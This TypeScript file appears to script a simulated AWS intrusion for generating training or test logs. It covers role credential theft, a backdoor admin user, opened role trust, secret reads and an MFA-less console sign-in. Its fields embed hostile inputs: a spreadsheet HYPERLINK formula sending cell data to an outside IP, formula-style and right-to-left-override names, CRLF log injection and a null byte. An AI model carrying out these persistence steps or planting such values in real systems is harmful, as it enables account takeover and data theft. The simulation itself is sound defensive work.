/** The instance role's credentials used from outside, and what they left behind: a user, a key, a password, an opened role. */
import { type Actor, roleActor, userActor } from '../../../estate/actors.ts';
import { newAccessKey, newUser, policyText, trustText } from '../../../estate/builders.ts';
import { iamId } from '../../../estate/ids.ts';
import { recordDate } from '../../../estate/iso-time.ts';
import type { TrailCall } from '../../../estate/trail-record.ts';
import type { IamUser } from '../../../estate/types.ts';
import { HOUR_MS, MINUTE_MS } from '../cast.ts';
import { PIPELINE_ROLE, WEB_ROLE } from '../estate/identities.ts';
import type { Script } from '../script.ts';

export const BACKDOOR_USER = 'svc-backup-sync';
/** Created and deleted again: known from logs only. Every character is one that IAM allows in a user name. */
export const VANISHED_USER = '=cmd+tmp.migration@7';
const ADMIN_POLICY = 'arn:aws:iam::aws:policy/AdministratorAccess';

export interface Footholds {
  web: Actor;
  backdoor: IamUser;
  backdoorActor: Actor;
  vanished: Actor;
}

/** Plays hours 1 to 9. */
export function playPersistence(script: Script): Footholds {
  const web = playRoleTheft(script);
  const { user: backdoor, actor: backdoorActor } = playBackdoorUser(script, web);
  playRoleTrust(script, web);
  const vanished = playIntermediateUser(script, web);
  playConsoleSignIn(script, backdoor);
  return { web, backdoor, backdoorActor, vanished };
}

function playRoleTheft(script: Script): Actor {
  const { cast, estate, compromised } = script;
  const accountId = cast.accounts.production;
  const role = estate.accounts[accountId]!.iam.roles[WEB_ROLE]!;
  const issuedMs = cast.attackMs + 20 * MINUTE_MS;
  const accessKeyId = iamId(script.random, 'ASIA');
  // EC2 fetched these for the instance itself: the ordinary event that ties the stolen key to the instance.
  script.emit(script.random, assumeByEc2(script, issuedMs, accessKeyId));
  const session = { sessionName: compromised.id, accessKeyId, startedAtMs: issuedMs, ec2RoleDelivery: '1.0' } as const;
  const actor = roleActor(accountId, role, cast.origins.attackerHost, session);
  role.lastUsed = { atMs: cast.nowMs - 30 * MINUTE_MS, region: 'eu-west-1' };
  const at = (minutes: number): number => cast.attackMs + HOUR_MS + minutes * MINUTE_MS;
  const base = { accountId, actor, region: 'us-east-1', service: 'iam' };
  script.step(
    {
      id: 'role-credentials-outside',
      title: 'Credentials of the instance role used from outside',
      tactic: 'TA0006 Credential Access',
      technique: 'T1552.005',
      principal: role.arn,
      affected: [role.arn, `arn:aws:ec2:eu-west-1:${accountId}:instance/${compromised.id}`],
    },
    [
      { ...base, atMs: at(10), region: 'eu-west-1', service: 'sts', name: 'GetCallerIdentity' },
      { ...base, atMs: at(12), name: 'ListAttachedRolePolicies', request: { roleName: WEB_ROLE } },
      { ...base, atMs: at(12.5), name: 'ListRolePolicies', request: { roleName: WEB_ROLE } },
      { ...base, atMs: at(13), name: 'GetRolePolicy', request: { roleName: WEB_ROLE, policyName: 'bootstrap-2024' } },
      { ...base, atMs: at(15), name: 'GetAccountAuthorizationDetails', request: { filter: ['User', 'Role'] } },
      {
        ...base,
        atMs: at(19),
        region: 'eu-west-1',
        service: 'ec2',
        name: 'DescribeSnapshots',
        request: { snapshotSet: {}, ownersSet: { items: [{ owner: 'self' }] }, filterSet: {} },
      },
    ],
  );
  return actor;
}

function assumeByEc2(script: Script, atMs: number, accessKeyId: string): TrailCall {
  const accountId = script.cast.accounts.production;
  const role = script.estate.accounts[accountId]!.iam.roles[WEB_ROLE]!;
  const host = 'ec2.amazonaws.com';
  return {
    atMs,
    accountId,
    region: 'eu-west-1',
    actor: { identity: { type: 'AWSService', invokedBy: host }, ip: host, agent: host, viaService: true },
    service: 'sts',
    name: 'AssumeRole',
    request: { roleArn: role.arn, roleSessionName: script.compromised.id },
    response: {
      credentials: { accessKeyId, sessionToken: 'IQoJb3JpZ2luX2VjE', expiration: recordDate(atMs + 6 * HOUR_MS) },
    },
    resources: [{ accountId, type: 'AWS::IAM::Role', ARN: role.arn }],
    sharedEventId: undefined,
  };
}

function playBackdoorUser(script: Script, web: Actor): { user: IamUser; actor: Actor } {
  const { cast, estate } = script;
  const accountId = cast.accounts.production;
  const { iam } = estate.accounts[accountId]!;
  const madeMs = cast.attackMs + 4 * HOUR_MS + 4 * MINUTE_MS;
  const key = newAccessKey(script.random, madeMs + 60_000);
  key.lastUsed = { atMs: cast.nowMs - 6 * HOUR_MS, serviceName: 'sts', region: 'us-east-1' };
  const user = newUser(script.random, accountId, BACKDOOR_USER, madeMs, {
    accessKeys: [key],
    attachedPolicyArns: [ADMIN_POLICY],
    loginProfile: { createdAtMs: madeMs + 150_000, passwordResetRequired: false },
    passwordLastUsedAtMs: cast.attackMs + 9 * HOUR_MS,
    tags: { owner: '\u202eknalb-kcart', note: '=HYPERLINK("http://198.51.100.23/?q="&A1,"Open report")' },
  });
  iam.users[user.name] = user;
  const base = { accountId, actor: web, region: 'us-east-1', service: 'iam' };
  script.step(
    {
      id: 'create-backdoor-user',
      title: 'Administrator user with key and password created',
      tactic: 'TA0003 Persistence',
      technique: 'T1136.003',
      principal: `assumed-role/${WEB_ROLE}`,
      affected: [user.arn],
    },
    [
      {
        ...base,
        atMs: madeMs,
        name: 'CreateUser',
        request: { userName: user.name, tags: Object.entries(user.tags).map(([k, value]) => ({ key: k, value })) },
        response: {
          user: { path: '/', userName: user.name, userId: user.id, arn: user.arn, createDate: recordDate(madeMs) },
        },
      },
      {
        ...base,
        atMs: madeMs + 60_000,
        name: 'CreateAccessKey',
        request: { userName: user.name },
        response: {
          accessKey: {
            accessKeyId: key.id,
            status: 'Active',
            userName: user.name,
            createDate: recordDate(madeMs + 60_000),
          },
        },
      },
      {
        ...base,
        atMs: madeMs + 110_000,
        name: 'AttachUserPolicy',
        request: { userName: user.name, policyArn: ADMIN_POLICY },
      },
      {
        ...base,
        atMs: madeMs + 150_000,
        name: 'CreateLoginProfile',
        request: { userName: user.name, passwordResetRequired: false },
        response: {
          loginProfile: { userName: user.name, createDate: recordDate(madeMs + 150_000), passwordResetRequired: false },
        },
      },
    ],
  );
  return { user, actor: userActor(accountId, user, cast.origins.attackerHost, key.id) };
}

function playRoleTrust(script: Script, web: Actor): void {
  const { cast, estate } = script;
  const accountId = cast.accounts.production;
  const role = estate.accounts[accountId]!.iam.roles[PIPELINE_ROLE]!;
  const opened = trustText({ AWS: `arn:aws:iam::${cast.accounts.external}:root` });
  role.trustPolicy = policyText([...statementsOf(role.trustPolicy), ...statementsOf(opened)]);
  script.step(
    {
      id: 'open-role-trust',
      title: 'Trust of a data role opened to an external account',
      tactic: 'TA0003 Persistence',
      technique: 'T1098.001',
      principal: `assumed-role/${WEB_ROLE}`,
      affected: [role.arn],
    },
    [
      {
        atMs: cast.attackMs + 4.4 * HOUR_MS,
        accountId,
        actor: web,
        region: 'us-east-1',
        service: 'iam',
        name: 'UpdateAssumeRolePolicy',
        request: { roleName: role.name, policyDocument: role.trustPolicy },
      },
    ],
  );
}

function statementsOf(document: string): object[] {
  return (JSON.parse(document) as { Statement: object[] }).Statement;
}

/** A user made only to make others look elsewhere, and deleted again. Its agent carries a line break. */
function playIntermediateUser(script: Script, web: Actor): Actor {
  const { cast } = script;
  const accountId = cast.accounts.production;
  const madeMs = cast.attackMs + 5 * HOUR_MS;
  const key = newAccessKey(script.random, madeMs);
  const user = newUser(script.random, accountId, VANISHED_USER, madeMs);
  const actor = userActor(
    accountId,
    user,
    { ip: '198.51.100.77', agent: 'aws-cli/2.17.44\r\nX-Injected: 1\r\n\r\n{"level":"info","msg":"ok"}' },
    key.id,
  );
  const base = { accountId, region: 'us-east-1', service: 'iam' };
  const userName = user.name;
  script.step(
    {
      id: 'create-intermediate-user',
      title: 'Intermediate user created and used',
      tactic: 'TA0003 Persistence',
      technique: 'T1136.003',
      principal: `assumed-role/${WEB_ROLE}`,
      affected: [user.arn],
    },
    [
      {
        ...base,
        actor: web,
        atMs: madeMs,
        name: 'CreateUser',
        request: { userName },
        response: { user: { path: '/', userName, userId: user.id, arn: user.arn, createDate: recordDate(madeMs) } },
      },
      {
        ...base,
        actor: web,
        atMs: madeMs + 30_000,
        name: 'CreateAccessKey',
        request: { userName },
        response: {
          accessKey: { accessKeyId: key.id, status: 'Active', userName, createDate: recordDate(madeMs + 30_000) },
        },
      },
      {
        ...base,
        actor: web,
        atMs: madeMs + 50_000,
        name: 'AttachUserPolicy',
        request: { userName, policyArn: ADMIN_POLICY },
      },
    ],
  );
  script.step(
    {
      id: 'intermediate-user-discovery',
      title: 'Intermediate user reads secrets and parameters',
      tactic: 'TA0006 Credential Access',
      technique: 'T1555.006',
      principal: user.arn,
      affected: ['shop/database'],
    },
    [
      { ...base, actor, atMs: madeMs + 10 * MINUTE_MS, region: 'eu-west-1', service: 'sts', name: 'GetCallerIdentity' },
      {
        ...base,
        actor,
        atMs: madeMs + 11 * MINUTE_MS,
        region: 'eu-west-1',
        service: 'secretsmanager',
        name: 'ListSecrets',
        request: { maxResults: 100 },
      },
      {
        ...base,
        actor,
        atMs: madeMs + 12 * MINUTE_MS,
        region: 'eu-west-1',
        service: 'secretsmanager',
        name: 'GetSecretValue',
        request: { secretId: 'shop/database' },
      },
      {
        ...base,
        actor,
        atMs: madeMs + 13 * MINUTE_MS,
        region: 'eu-west-1',
        service: 'secretsmanager',
        name: 'GetSecretValue',
        request: { secretId: 'shop/payment\u0000.bak' },
        error: {
          code: 'ValidationException',
          message: 'Invalid name. Must be a valid name containing alphanumeric characters: shop/payment\u0000.bak',
        },
      },
    ],
  );
  return actor;
}

function playConsoleSignIn(script: Script, user: IamUser): void {
  const { cast } = script;
  const accountId = cast.accounts.production;
  const { ip } = cast.origins.attacker;
  const actor = userActor(accountId, user, {
    ip,
    agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:130.0) Gecko/20100101 Firefox/130.0',
  });
  const additional = {
    LoginTo: 'https://console.aws.amazon.com/console/home?hashArgs=%23&isauthcode=true',
    MobileVersion: 'No',
    MFAUsed: 'No',
  };
  const base = {
    accountId,
    region: 'eu-west-1',
    actor,
    service: 'signin',
    name: 'ConsoleLogin',
    readOnly: false,
    eventType: 'AwsConsoleSignIn',
    additional,
  } as const;
  const atMs = cast.attackMs + 9 * HOUR_MS;
  script.step(
    {
      id: 'console-sign-in',
      title: 'Console sign-in as the new user, without a second factor',
      tactic: 'TA0001 Initial Access',
      technique: 'T1078.004',
      principal: user.arn,
      affected: [user.arn],
    },
    [
      {
        ...base,
        atMs: atMs - 70_000,
        error: { message: 'Failed authentication' },
        response: { ConsoleLogin: 'Failure' },
      },
      { ...base, atMs, response: { ConsoleLogin: 'Success' } },
    ],
  );
}
